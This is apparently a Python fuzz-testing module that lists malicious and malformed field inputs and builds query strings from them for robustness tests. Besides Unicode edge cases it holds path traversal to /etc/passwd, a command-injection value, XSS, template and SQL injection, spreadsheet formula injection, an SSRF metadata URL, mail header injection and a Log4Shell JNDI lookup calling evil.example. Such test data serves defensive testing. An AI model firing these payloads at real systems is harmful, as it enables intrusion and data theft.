# ruff: noqa: RUF001 - strings that deceive are the point here
"""What people, pranksters and machines put into fields."""

from collections.abc import Iterator, Sequence
from itertools import cycle, islice
from urllib.parse import quote, quote_from_bytes

# Each is short; that such things may be long too is said by LONG.
STRINGS = (
    # nothing, nearly nothing, and what looks like nothing
    "",
    " ",
    "\t\r\n",
    "\u200b",
    "\u2060\ufeff",
    "\xa0",
    "\u3164",
    "a\x00b",
    "\x01\x02\x1b[31mred\x1b[0m\x7f",
    "\x85\u2028\u2029",
    # text that turns around, stacks up, or is many bytes
    "\u202etxt.exe\u202c",
    "\u2066a\u2069\u200f\u200e",
    "مرحبا بالعالم",
    "שלום עולם",
    "ßẞıİſK\u212b",
    "Ａｄａ　Ｌｉｎｅ",
    "e\u0301\u0327\u0323",
    "Z̷̢͙̎á̶̻l̵̹̀g̴̗̈́ó̵͜",
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏽",
    "🇩🇪🇫",
    "田中さんにあげて下さい",
    "ﷺ" * 20,
    "𝕳𝖊𝖑𝖑𝖔\U000e0041\U0010ffff\ufffe\ufffd",
    "\u0e47" * 60,
    # what is an address of something
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%00",
    "/dev/null; cat /etc/passwd|",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "http://169.254.169.254/latest",
    "data:text/html,<script>alert(1)</script>",
    # what a page, a template, a formula or a query would run
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea></title><script>alert(1)</script>",
    "<!--<b>-->]]></style><style>*{display:none}",
    "&lt;script&gt;&#x3c;b&#x3e;&amp;amp;",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "{0.__class__.__init__.__globals__}{}",
    "%s%n%x%(x)s%",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE person; --",
    "' OR '1'='1' /*",
    "\\'; SELECT pg_sleep(9)--",
    "%_\\%' ESCAPE",
    "=1+1|' /C calc'!A0",
    "@SUM(1)",
    "(((((((((((((",
    'topic:* AND NOT (name:"',
    "[a-z]{1,99999}(x+x+)+y",
    # what would add a header or a mail
    "x\r\nBcc: all@example.org\r\n\r\nbody",
    "a@example.org\nX-Evil: 1",
    '"quoted"@example.org,b@example.org',
    # what is nearly a number, a date, a truth, an id
    "0",
    "-1",
    "1e309",
    "NaN",
    "٣",
    "²",
    "99999999999999999999999",
    "-9223372036854775809",
    "0x7f",
    "1_000",
    "2026-02-30",
    "9999-12-31",
    "0000-00-00",
    "12/2026",
    "null",
    "None",
    "True",
    "[]",
    "undefined",
    "CON",
    "0001-01-01",
)
LONG = ("x" * 10_000, "lorem " * 17_000, "👩‍👩‍👧‍👦" * 1_500, "a\u0301" * 5_000)
# Bytes that are no UTF-8 at all, as a query may hold them.
BROKEN_BYTES = (b"\xff\xfe", b"\xc3\x28", b"\xed\xa0\x80", b"a%", b"\xf0\x9f\x98")
MARK = "zqx"


def mixed(texts: Sequence[str], start: int) -> Iterator[str]:
    """Yield these again and again, beginning somewhere, so that each field gets another."""
    return islice(cycle(texts), start, None)


def queries(names: Sequence[str]) -> Iterator[str]:
    """Yield query strings: everything here once under these names by turns, and once under MARK."""
    everything = [quote(text) for text in STRINGS] + [quote_from_bytes(raw) for raw in BROKEN_BYTES]
    for start in range(0, len(everything) if names else 0, max(1, len(names))):
        texts = islice(cycle(everything), start, None)
        yield "&".join(f"{name}={text}" for name, text in zip(names, texts, strict=False))
    yield "&".join(f"{MARK}={text}" for text in everything)
    for name in (*names, MARK):
        yield f"{name}={'x' * 4_000}&{name}=a&{name}=&{name}[]=1&{name}[a]=2"
